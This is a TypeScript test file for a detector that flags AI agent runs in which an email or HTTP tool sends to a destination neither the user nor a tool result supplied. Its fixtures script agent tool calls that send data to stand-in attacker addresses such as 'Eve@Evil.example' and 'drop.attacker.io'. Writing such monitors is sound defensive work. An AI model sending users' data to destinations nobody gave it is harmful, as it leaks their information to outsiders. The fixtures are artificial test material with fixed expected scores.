/** UNGROUNDED_DESTINATION: the original's firing cases and near-misses (upstream v2 §1.8), from text. */
import { describe, expect, it } from 'vitest';
import { TEST_KEYER, detect, run } from './run-builder.js';

describe('UNGROUNDED_DESTINATION', () => {
  it('an address nobody gave: HIGH, 0.65 + 0.05 for a send tool', () => {
    const s = detect(
      'UNGROUNDED_DESTINATION',
      run({ input: 'email my manager' }).tool('send_email', { args: '{"to": "Eve@Evil.example"}', result: 'ok' }).finalAnswer().build(),
    );
    expect(s).toMatchObject({
      severity: 'HIGH',
      confidence: 0.7,
      evidence: { destination_type: 'email', tool_name: 'send_email', output_visibility: 'complete', candidate_count: 1, ungrounded_count: 1 },
    });
    expect(s?.evidence.destination_digest).toBe(TEST_KEYER.digest('eve@evil.example'));
  });

  it('a URL host nobody gave, a tool result missing: 0.65 − 0.15', () => {
    const r = run({ input: 'post the summary' })
      .tool('fetch', { args: '{}', output_length: null })
      .tool('http_put', { args: '{"url": "https://drop.attacker.io:8443/x"}', result: 'ok' })
      .finalAnswer()
      .build();
    expect(detect('UNGROUNDED_DESTINATION', r)).toMatchObject({ confidence: 0.5, evidence: { destination_type: 'url', output_visibility: 'partial' } });
  });

  it.each([
    ['the address is in the input', run({ input: 'Send it to bob@corp.com please.' }).tool('send_email', { args: '{"to": "bob@corp.com"}' })],
    [
      'the address came from a tool result',
      run({ input: 'email the owner' })
        .tool('lookup_owner', { args: '{}', result: '{"owner": "bob@corp.com"}' })
        .tool('send_email', { args: '{"to": "bob@corp.com"}' }),
    ],
    ['the host is named in the input', run({ input: 'upload to files.corp.com' }).tool('upload', { args: '{"url": "https://files.corp.com/in"}' })],
    ['the host is a parent of a host in the input', run({ input: 'see https://mail.corp.com/x' }).tool('upload', { args: '{"url": "https://corp.com/in"}' })],
    ['no destination at all', run({ input: 'x' }).tool('search', { args: '{"q": "weather"}' })],
    ['out of the tool-name scope', run({ input: 'x' }).tool('log_event', { args: '{"to": "eve@evil.example"}' })],
  ])('silent when %s', (_name, b) => {
    expect(detect('UNGROUNDED_DESTINATION', b.finalAnswer().build(), { tool_name_scope: ['send', 'upload', 'http'] })).toBeNull();
  });

  it("the model's own output is not grounding", () => {
    const r = run({ input: 'email the team' })
      .llm({ reply: 'I will write to eve@evil.example' })
      .tool('send_email', { args: '{"to": "eve@evil.example"}' })
      .finalAnswer()
      .build();
    expect(detect('UNGROUNDED_DESTINATION', r)).not.toBeNull();
  });
});
